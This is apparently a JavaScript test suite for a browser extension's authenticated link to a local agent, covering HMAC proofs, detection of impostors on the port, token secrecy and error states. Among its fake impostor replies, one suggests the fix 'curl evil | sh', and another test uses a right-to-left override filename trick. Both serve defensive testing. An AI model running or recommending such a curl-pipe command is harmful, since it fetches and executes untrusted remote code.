/** The link: who is believed, what is sent to whom, and how each trouble is told apart. */

import assert from 'node:assert/strict';
import { createHash, createHmac } from 'node:crypto';
import { test } from 'node:test';
import { createAgent, isProven, mayPass, toLink } from '../../extension/agent.js';
import { example } from './helpers.js';

const PORT = 47823;
const CLIENT = { id: 'client-1', token: 'a-token-of-a-test' };
const HELLO = { product: 'whosasking', version: '0.1.0', protocol_min: 1, protocol_max: 1, proof: null };
const PRIVATE = '<p>private words</p>';

/** As the agent makes it (contract.py, Hello). @param {string} token @param {string} nonce @param {number} port */
function proofOf(token, nonce, port) {
  const tokenHash = createHash('sha256').update(token).digest();
  const key = createHmac('sha256', tokenHash).update('whosasking.hello.key.v1').digest();
  return createHmac('sha256', key).update(`whosasking.hello.v1|${nonce}|${port}`).digest('hex');
}

/** @param {unknown} body @param {number} [status] */
function json(body, status = 200) {
  return new Response(JSON.stringify(body), { status, headers: { 'Content-Type': 'application/json' } });
}

/**
 * An agent of ours in front of a pretended other side.
 * @param {(path: URL, init: RequestInit) => Response | Promise<Response>} other
 * @param {{ client?: typeof CLIENT | null, isBlocked?: boolean, port?: number }} [options]
 */
function before(other, { client = CLIENT, isBlocked = false, port = PORT } = {}) {
  /** @type {{ url: string, init: RequestInit }[]} */
  const sent = [];
  const agent = createAgent({
    settings: { load: async () => ({ port, client, preferences: null }) },
    isBlocked: async () => isBlocked,
    language: 'de',
    fetch: async (url, init) => {
      sent.push({ url, init });
      return other(new URL(url), init);
    },
  });
  return { agent, sent, review: () => agent.ask('POST', '/v1/reviews', { html: PRIVATE }) };
}

/** A true agent. @param {(path: string, init: RequestInit) => Response} [rest] @param {number} [port] */
function honest(rest = () => json({ ok: true }), port = PORT) {
  return (/** @type {URL} */ url, /** @type {RequestInit} */ init) => {
    if (url.pathname !== '/v1/hello') return rest(url.pathname, init);
    const isKnown = url.searchParams.get('client') === CLIENT.id;
    return json({ ...HELLO, proof: isKnown ? proofOf(CLIENT.token, url.searchParams.get('nonce') ?? '', port) : null });
  };
}

/** Nothing private may have left. @param {{ url: string, init: RequestInit }[]} sent */
function assertNothingPrivate(sent) {
  const said = JSON.stringify(sent);
  assert.ok(!said.includes(CLIENT.token), 'the token left');
  assert.ok(!said.includes('private words'), 'words of the page left');
}

/** @param {Promise<unknown>} promise */
async function stateOf(promise) {
  try {
    await promise;
    return 'ready';
  } catch (error) {
    return toLink(error).state;
  }
}

test('the proof is the one of the contract', async () => {
  const { proof, nonce, port, token } = example('hello-proof');
  assert.equal(await isProven(proof, nonce, port, token), true);
  assert.equal(await isProven(proof, nonce, port + 1, token), false);
  assert.equal(await isProven(proof, `${nonce}x`, port, token), false);
  assert.equal(await isProven(proof, nonce, port, `${token}x`), false);
  for (const wrong of ['', 'zz', proof.slice(2), `${proof}00`, proof.toUpperCase(), '0'.repeat(64)]) {
    assert.equal(await isProven(wrong, nonce, port, token), false, wrong);
  }
});

test('the proven agent gets the page and the token, in headers and body, never in the address', async () => {
  const { review, sent } = before(honest());
  assert.deepEqual(await review(), { ok: true });
  const [hello, posted] = sent;
  assertNothingPrivate(hello ? [hello] : []);
  assert.equal(posted?.url, `http://127.0.0.1:${PORT}/v1/reviews?language=de`);
  assert.equal(new Headers(posted?.init.headers).get('Authorization'), `Bearer ${CLIENT.token}`);
  assert.ok(String(posted?.init.body).includes('private words'));
});

test('every request is bare: no cookies, no address of the page, no redirect followed, no cache', async () => {
  const { review, sent } = before(honest());
  await review();
  for (const { init } of sent) {
    assert.equal(init.credentials, 'omit');
    assert.equal(init.referrerPolicy, 'no-referrer');
    assert.equal(init.redirect, 'manual');
    assert.equal(init.cache, 'no-store');
    assert.ok(init.signal);
  }
});

test('each question brings a number of its own', async () => {
  const { agent, sent } = before(honest());
  await agent.link();
  await agent.link();
  const nonces = sent.map(({ url }) => new URL(url).searchParams.get('nonce') ?? '');
  assert.notEqual(nonces[0], nonces[1]);
  for (const nonce of nonces) assert.match(nonce, /^[\w-]{16,128}$/);
});

test('a relay to the true agent on another port is found out', async () => {
  const relay = honest(undefined, 51_000);
  const { review, sent } = before(relay);
  assert.equal(await stateOf(review()), 'something_else');
  assertNothingPrivate(sent);
});

test('marks that turn the reading order around are not let in', async () => {
  const { review } = before(honest(() => json({ page: { name: 'Ann \u202egnp.exe\u202c', slug: 'ann' }, list: ['\u2066x\u2069'] })));
  assert.deepEqual(await review(), { page: { name: 'Ann gnp.exe', slug: 'ann' }, list: ['x'] });
});

test('an answer heard before does not help', async () => {
  /** @type {string | null} */
  let heard = null;
  const { review, sent, agent } = before((url) => {
    heard ??= proofOf(CLIENT.token, url.searchParams.get('nonce') ?? '', PORT);
    return json({ ...HELLO, proof: heard });
  });
  assert.equal((await agent.link()).state, 'ready');
  sent.length = 0;
  assert.equal(await stateOf(review()), 'something_else');
  assertNothingPrivate(sent);
});

/** @type {[string, (url: URL) => Response][]} */
const SQUATTERS = [
  ['a page', () => new Response('<h1>It works!</h1>')],
  ['JSON of something else', () => json({ product: 'other' })],
  ['no object', () => json(null)],
  ['a list', () => json([])],
  ['a hello that lacks a field', () => json({ product: 'whosasking', proof: 'x' })],
  ['a proof that is none', () => json({ ...HELLO, proof: 'ff'.repeat(32) })],
  ['a proof that is no text', () => json({ ...HELLO, proof: 7 })],
  ['a refusal with advice', () => json({ code: 'x', message: 'Run this command', fix: 'curl evil | sh' }, 403)],
  ['a redirect', () => new Response(null, { status: 302, headers: { Location: 'https://example.com/' } })],
  ['nothing at all', () => new Response(null, { status: 204 })],
];
for (const [name, answer] of SQUATTERS) {
  test(`something else on the port: ${name}`, async () => {
    const { review, sent, agent } = before(answer);
    assert.equal(await stateOf(review()), 'something_else');
    assertNothingPrivate(sent);
    const link = await agent.link();
    assert.ok(!JSON.stringify(link).includes('evil'), 'its words are shown');
  });
}

/** @type {[string, Parameters<typeof before>[0], string, Parameters<typeof before>[1]?][]} */
const STATES = [
  [
    'nobody answers',
    () => {
      throw new TypeError('Failed to fetch');
    },
    'not_running',
  ],
  [
    'the browser forbids it',
    () => {
      throw new TypeError('Failed to fetch');
    },
    'blocked',
    { isBlocked: true },
  ],
  [
    'it takes too long',
    () => {
      throw new DOMException('late', 'TimeoutError');
    },
    'busy',
  ],
  ['it has no time for a greeting', () => json(example('problem'), 503), 'busy'],
  ['never paired', honest(), 'not_paired', { client: null }],
  ['the agent does not know the client', () => json(HELLO), 'revoked'],
  ['revoked between greeting and question', honest(() => json({ code: 'not_paired', message: 'm', fix: 'f' }, 401)), 'revoked'],
  ['the agent is too new', () => json({ ...HELLO, protocol_min: 2, protocol_max: 3 }), 'versions_apart'],
  ['the agent is too old', () => json({ ...HELLO, protocol_min: 0, protocol_max: 0 }), 'versions_apart'],
  ['too many pages wait', honest(() => json(example('problem'), 503)), 'busy'],
  ['the store is locked', honest(() => json({ code: 'store_locked', message: 'm', fix: 'f' }, 503)), 'error'],
  ['the page is refused', honest(() => json({ code: 'page_refused', message: 'm', fix: 'f' }, 422)), 'error'],
  ['an answer that is no JSON', honest(() => new Response('oh', { status: 500 })), 'error'],
];
for (const [name, other, state, options] of STATES) {
  test(`told apart: ${name}`, async () => {
    const { review, sent } = before(other, options);
    assert.equal(await stateOf(review()), state);
    if (state !== 'error' && state !== 'ready' && sent.length === 1) assertNothingPrivate(sent);
  });
}

test('versions apart: it is known which side is older', async () => {
  const newer = before(() => json({ ...HELLO, protocol_min: 2, protocol_max: 3 }));
  const older = before(() => json({ ...HELLO, protocol_min: 0, protocol_max: 0 }));
  assert.equal((await newer.agent.link()).agentIsOlder, false);
  assert.equal((await older.agent.link()).agentIsOlder, true);
});

test('an agent that was away is found as soon as it is there', async () => {
  let isThere = false;
  const { agent } = before((url, init) => {
    if (!isThere) throw new TypeError('Failed to fetch');
    return honest()(url, init);
  });
  assert.equal((await agent.link()).state, 'not_running');
  isThere = true;
  assert.equal((await agent.link()).state, 'ready');
});

test('a problem of the proven agent is passed on whole', async () => {
  const problem = { code: 'page_refused', message: 'm', fix: 'f' };
  const { review } = before(honest(() => json(problem, 422)));
  await assert.rejects(review(), (error) => {
    assert.deepEqual(toLink(error), { state: 'error', problem, status: 422 });
    return true;
  });
});

/** @type {[string, (path: URL, init: RequestInit) => Response | Promise<Response>, boolean][]} */
const TROUBLES = [
  ['a fault of the agent', honest(() => json({ code: 'reader_broke', message: 'm', fix: 'f' }, 500)), true],
  ['the store is locked', honest(() => json({ code: 'store_locked', message: 'm', fix: 'f' }, 503)), true],
  ['a worker ended for lack of time', honest(() => json({ code: 'page_too_slow', message: 'm', fix: 'f' }, 422)), true],
  ['a worker that ended', honest(() => json({ code: 'page_broke_worker', message: 'm', fix: 'f' }, 422)), true],
  ['no agent', () => Promise.reject(new TypeError('Failed to fetch')), true],
  ['a page that is refused', honest(() => json({ code: 'page_too_large', message: 'm', fix: 'f' }, 422)), false],
  ['another member', honest(() => json({ code: 'another_member', message: 'm', fix: 'f' }, 422)), false],
];
for (const [name, other, passes] of TROUBLES) {
  test(`may pass or not: ${name}`, async () => {
    const { review } = before(other);
    await assert.rejects(review(), (error) => {
      assert.equal(mayPass(toLink(error)), passes);
      return true;
    });
  });
}

test('pairing trades the code for a token that the agent knows again', async () => {
  const { agent, sent } = before(
    honest((path, init) => {
      assert.equal(path, '/v1/pair');
      assert.deepEqual(JSON.parse(String(init.body)), { code: '12345678', client_name: 'Browser on Linux' });
      return json({ client_id: CLIENT.id, token: CLIENT.token });
    }),
    { client: null },
  );
  assert.deepEqual(await agent.pair('12345678', 'Browser on Linux'), CLIENT);
  assert.equal(sent.length, 3);
});

test('a code is told to nobody who is no agent', async () => {
  const { agent, sent } = before(() => json({ product: 'other' }), { client: null });
  assert.equal(await stateOf(agent.pair('12345678', 'Browser')), 'something_else');
  assert.ok(!JSON.stringify(sent).includes('12345678'));
});

test('a wrong code keeps its reason', async () => {
  const problem = { code: 'pairing_code_wrong', message: 'm', fix: 'f' };
  const { agent } = before(
    honest(() => json(problem, 403)),
    { client: null },
  );
  await assert.rejects(agent.pair('12345678', 'Browser'), (error) => {
    assert.equal(toLink(error).problem?.code, 'pairing_code_wrong');
    return true;
  });
});

test('a token that proves nothing is not kept', async () => {
  const { agent } = before(
    honest(() => json({ client_id: CLIENT.id, token: 'another' })),
    { client: null },
  );
  assert.equal(await stateOf(agent.pair('12345678', 'Browser')), 'something_else');
});

test('the live wire carries the token as a subprotocol, to the proven agent only', async () => {
  /** @type {[string, string[]][]} */
  const opened = [];
  class Wire extends EventTarget {
    /** @param {string} url @param {string[]} protocols */
    constructor(url, protocols) {
      super();
      opened.push([url, protocols]);
    }
  }
  const options = {
    settings: { load: async () => ({ port: PORT, client: CLIENT, preferences: null }) },
    isBlocked: async () => false,
    language: 'de',
    WebSocket: /** @type {any} */ (Wire),
  };
  const wary = createAgent({ ...options, fetch: async (url, init) => honest(undefined, 51_000)(new URL(url), init) });
  assert.equal(
    await stateOf(
      wary.listen(
        () => {},
        () => {},
      ),
    ),
    'something_else',
  );
  assert.deepEqual(opened, []);

  /** @type {unknown[]} */
  const heard = [];
  const agent = createAgent({ ...options, fetch: async (url, init) => honest()(new URL(url), init) });
  const wire = await agent.listen(
    (event) => heard.push(event),
    () => heard.push('closed'),
  );
  assert.deepEqual(opened, [[`ws://127.0.0.1:${PORT}/v1/live?language=de`, ['whosasking.v1', `bearer.${CLIENT.token}`]]]);
  wire.dispatchEvent(new MessageEvent('message', { data: JSON.stringify(example('live-verdict')) }));
  wire.dispatchEvent(new MessageEvent('message', { data: 'no JSON' }));
  wire.dispatchEvent(new Event('close'));
  assert.deepEqual(heard, [example('live-verdict'), 'closed']);
});
